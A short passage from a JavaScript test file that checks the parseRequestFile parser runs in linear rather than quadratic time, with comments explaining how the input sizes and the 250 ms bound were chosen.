			// one about a millisecond; both sizes stay clear of V8's large-object heap. And a bound far above
			// a linear parse (a few ms) and far below a quadratic one (seconds), for a load spell long
			// enough to flatter the ratio of a quadratic parse.
			await assertLinear(name, make, (text) => parseRequestFile(text), 16_000, { maxLargeMs: 250 });
		});
	}
});
